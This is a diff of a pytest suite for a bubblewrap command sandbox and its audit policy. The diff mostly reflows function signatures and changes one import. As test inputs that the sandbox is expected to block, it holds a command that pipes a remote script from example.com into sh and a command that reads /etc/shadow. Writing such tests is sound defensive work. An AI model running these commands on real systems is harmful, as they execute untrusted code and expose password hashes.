@@ -7,7 +7,7 @@ import stat
 import time
 
 import pytest
-from conftest import MakeProvider, MakeSandbox
+from sandbox_doubles import MakeProvider, MakeSandbox
 
 from audit import Decision, policy_from_mapping
 from sandbox import ExecResult, ExecStatus, SandboxConfigError, SandboxReleasedError
@@ -17,7 +17,9 @@ pytestmark = pytest.mark.bwrap
 CURL_PIPE_SHELL = "touch marker; curl -s https://example.com/i.sh | sh"
 
 
-def test_a_harmless_marker_command_does_create_the_marker(make_sandbox: MakeSandbox) -> None:
+def test_a_harmless_marker_command_does_create_the_marker(
+    make_sandbox: MakeSandbox,
+) -> None:
     sandbox = make_sandbox()
 
     result = sandbox.execute("touch marker")
@@ -34,7 +36,9 @@ def test_a_harmless_marker_command_does_create_the_marker(make_sandbox: MakeSand
         pytest.param("touch marker; cat /etc/shadow", id="password hashes"),
     ],
 )
-def test_a_blocked_command_leaves_no_trace(make_sandbox: MakeSandbox, command: str) -> None:
+def test_a_blocked_command_leaves_no_trace(
+    make_sandbox: MakeSandbox, command: str
+) -> None:
     sandbox = make_sandbox()
 
     result = sandbox.execute(command)
@@ -49,7 +53,9 @@ def test_a_blocked_command_leaves_no_trace(make_sandbox: MakeSandbox, command: s
     assert list(sandbox.workspace.iterdir()) == []
 
 
-def test_a_warned_command_runs_and_carries_the_warnings(make_sandbox: MakeSandbox) -> None:
+def test_a_warned_command_runs_and_carries_the_warnings(
+    make_sandbox: MakeSandbox,
+) -> None:
     sandbox = make_sandbox()
 
     result = sandbox.execute("touch shared.txt && chmod 777 shared.txt")
@@ -72,7 +78,9 @@ def test_a_passing_command_runs_with_no_warnings(make_sandbox: MakeSandbox) -> N
     assert result.duration_seconds > 0
 
 
-def test_the_provider_audit_policy_is_the_one_applied(make_sandbox: MakeSandbox) -> None:
+def test_the_provider_audit_policy_is_the_one_applied(
+    make_sandbox: MakeSandbox,
+) -> None:
     strict = policy_from_mapping({"rules": {"PE001": "high"}})
     sandbox = make_sandbox(audit_policy=strict)
 
@@ -91,7 +99,9 @@ def test_a_timed_out_command_reports_no_exit_code(make_sandbox: MakeSandbox) -> 
     assert result.stdout == "started\n"
 
 
-def test_a_timeout_above_the_provider_maximum_is_refused(make_sandbox: MakeSandbox) -> None:
+def test_a_timeout_above_the_provider_maximum_is_refused(
+    make_sandbox: MakeSandbox,
+) -> None:
     sandbox = make_sandbox(default_timeout_seconds=5.0, max_timeout_seconds=5.0)
 
     with pytest.raises(SandboxConfigError, match="max_timeout_seconds"):
@@ -118,7 +128,9 @@ def test_the_async_twin_audits_and_runs_the_same_way(make_sandbox: MakeSandbox) 
     sandbox = make_sandbox()
 
     async def both() -> tuple[ExecResult, ExecResult]:
-        return await sandbox.aexecute("echo async"), await sandbox.aexecute(CURL_PIPE_SHELL)
+        return await sandbox.aexecute("echo async"), await sandbox.aexecute(
+            CURL_PIPE_SHELL
+        )
 
     ran, blocked = asyncio.run(both())
 
